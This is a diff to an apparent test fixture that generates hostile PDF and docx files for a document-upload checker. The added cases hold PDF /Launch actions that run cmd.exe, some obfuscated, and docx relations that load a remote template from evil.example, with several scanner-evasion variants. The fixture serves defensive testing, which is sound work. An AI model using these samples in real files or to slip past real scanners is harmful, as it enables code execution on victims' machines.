@@ -58,6 +58,12 @@ export async function hostileFiles(): Promise<HostileFile[]> {
       'embedded-files',
       pdf('/Names << /EmbeddedFiles << /Names [] >> >>'),
     ),
+    ...[
+      '%stream\n5 0 obj << /S /Launch /F (cmd.exe) >> endobj\n%endstream\n',
+      '5 0 obj\n<< /T (>>\nstream\n) /A << /S %x\n/L#61unch /F (cmd.exe) >> /B (endstream) >>\nendobj\n',
+    ].map((objects) =>
+      file('a PDF that starts a program from what looks like a stream', 'a.pdf', 'active', pdf('', objects)),
+    ),
     file('an encrypted PDF', 'a.pdf', 'encrypted', pdf('', '', '/Encrypt 9 0 R')),
     file('a PDF that is cut off', 'a.pdf', 'damaged', pdf('').subarray(0, 200)),
     file('a PDF without pages', 'a.pdf', 'damaged', '%PDF-1.7\n%%EOF'),
@@ -79,6 +85,26 @@ export async function hostileFiles(): Promise<HostileFile[]> {
       'active',
       docx({ 'word/_rels/settings.xml.rels': template }),
     ),
+    ...hiddenTemplates.map((relations) =>
+      file(
+        'a docx that fetches its template and hides it',
+        'a.docx',
+        'active',
+        docx({ 'word/_rels/settings.xml.RELS': relations }),
+      ),
+    ),
+    file(
+      'a docx whose relations nobody can look at',
+      'a.docx',
+      'damaged',
+      docx({ 'word/_rels/settings.xml.rels': `${' '.repeat(9_000_000)}${template}` }),
+    ),
+    file(
+      'a docx whose relations are in another encoding',
+      'a.docx',
+      'damaged',
+      docx({ 'word/_rels/settings.xml.rels': [...template].join('\0') }),
+    ),
     file('a docx that unpacks to 2 GB, and says so', 'a.docx', 'unpacks-too-large', saidBomb()),
     file('a docx that unpacks to more than it says', 'a.docx', 'unpacks-too-large', hiddenBomb()),
     file('a docx of 12,000 parts', 'a.docx', 'unpacks-too-large', manyParts(12_000)),
@@ -96,6 +122,14 @@ const svgs = [
 
 const template =
   '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+
+const hiddenTemplates = [
+  template.replaceAll('"', "'"),
+  template.replace('TargetMode=', 'TargetMode \n= '),
+  template.replaceAll('Relationship', 'r:Relationship'),
+  template.replace('External', 'Extern&#97;l').replace('attached', '&#x61;ttached'),
+  template.replace('Id="r"', 'Id="r>"'),
+]
 
 /** A picture that no compression makes small. */
 export function noise(side: number, height = side) {
